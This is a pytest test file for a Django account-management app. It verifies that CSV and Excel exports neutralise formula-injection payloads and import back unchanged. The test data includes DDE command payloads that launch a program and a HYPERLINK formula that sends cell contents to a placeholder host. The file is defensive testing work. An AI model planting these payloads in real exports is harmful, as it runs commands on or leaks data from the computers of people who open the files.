"""No exported cell can run a formula, and exported files import back unchanged.

The payloads are what a rep could type as a name to run something on the computer of the
manager or admin who opens the export.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import Account, Contract
from accounts.resources import AccountResource, ContractResource
from kam.core.exports import SafeCSV, SafeXLSX, safe_cell, unescape_cell
from stakeholders.models import Stakeholder
from stakeholders.resources import StakeholderResource
from tests.factories import (
    AccountFactory,
    ActionFactory,
    ContractFactory,
    GoalFactory,
    KPIFactory,
    PlanFactory,
    StakeholderFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
PHONE = "+81 3-1234-5678"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
        (PHONE, "'" + PHONE),
        ("-5", "-5"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("株式会社東雲精機", "株式会社東雲精機"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_is_escaped_and_comes_back(value, written):
    assert safe_cell(value) == written
    assert unescape_cell(safe_cell(value)) == value


@pytest.fixture
def poisoned(owner, manager):
    """One account per payload, each with a contract, a plan, a goal, a KPI and an action
    named with it, and a stakeholder whose phone starts with +."""
    accounts = []
    for index, payload in enumerate(PAYLOADS):
        account = AccountFactory(owner=owner, name=payload)
        ContractFactory(account=account, number=f"P-{index}", title=payload)
        plan = PlanFactory(account=account, owner=owner, status="active")
        goal = GoalFactory(plan=plan, statement=payload)
        KPIFactory(plan=plan, goal=goal, name=payload)
        ActionFactory(plan=plan, title=payload, due_date=dt.date(2020, 1, 1), status="open")
        StakeholderFactory(account=account, name=payload, phone=PHONE)
        accounts.append(account)
    return accounts


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "Excel reads Japanese CSV by its BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_escaped(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    for cell in cells:
        assert not cell.startswith(("=", "+", "@")), cell


# The dashboard's CSVs


@pytest.mark.parametrize("kind", ["accounts", "contracts", "actions", "kpis", "goals"])
def test_dashboard_record_exports_are_escaped(client, manager, poisoned, kind):
    client.force_login(manager)
    response = client.get(reverse("dashboard_records", args=[kind]) + "?format=csv")

    assert response.status_code == 200
    _assert_escaped(_csv_rows(response.content))


def test_dashboard_at_risk_export_is_escaped(client, manager, poisoned):
    client.force_login(manager)
    response = client.get(reverse("dashboard") + "?export=at_risk")

    assert response.status_code == 200
    _assert_escaped(_csv_rows(response.content))


# The admin's CSV and Excel exports


def _export(admin_client, url_name: str, resource, fmt: str):
    fields = {
        f"{type(resource).__name__.lower()}_{name}": "on" for name in resource.get_export_order()
    }
    response = admin_client.post(reverse(url_name), {"resource": "0", "format": fmt, **fields})
    assert response.status_code == 200
    return response.content


EXPORTS = [
    ("admin:accounts_account_export", AccountResource, "name"),
    ("admin:accounts_contract_export", ContractResource, "title"),
    ("admin:stakeholders_stakeholder_export", StakeholderResource, "name"),
]


@pytest.mark.parametrize(("url_name", "resource_class", "column"), EXPORTS)
def test_admin_csv_exports_are_escaped_and_import_back_unchanged(
    admin_client, poisoned, url_name, resource_class, column
):
    content = _export(admin_client, url_name, resource_class(), "0")
    rows = _csv_rows(content)
    _assert_escaped(rows)

    dataset = SafeCSV().create_dataset(content)
    assert sorted(dataset[column]) == sorted(PAYLOADS)
    if "phone" in dataset.headers:
        assert set(dataset["phone"]) == {PHONE}


@pytest.mark.parametrize(("url_name", "resource_class", "column"), EXPORTS)
def test_admin_excel_exports_hold_text_not_formulas(
    admin_client, poisoned, url_name, resource_class, column
):
    content = _export(admin_client, url_name, resource_class(), "1")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    by_value = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for payload in PAYLOADS:
        assert by_value[payload].data_type == "s", payload
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), (
        "no formula cell at all"
    )

    dataset = SafeXLSX().create_dataset(content)
    assert sorted(dataset[column]) == sorted(PAYLOADS)
    if column == "title":
        # Numbers stay numbers in the workbook.
        values = sheet.iter_rows(min_row=2, min_col=header.index("annual_value") + 1)
        assert all(isinstance(row[0].value, int | float) for row in values)


def test_an_exported_csv_imports_back_without_changing_anything(admin_client, poisoned):
    content = _export(
        admin_client, "admin:stakeholders_stakeholder_export", StakeholderResource(), "0"
    )
    before = sorted(Stakeholder.objects.values_list("name", "phone"))

    result = StakeholderResource().import_data(SafeCSV().create_dataset(content), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert sorted(Stakeholder.objects.values_list("name", "phone")) == before
    assert Account.objects.count() == len(PAYLOADS)
    assert Contract.objects.count() == len(PAYLOADS)


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client
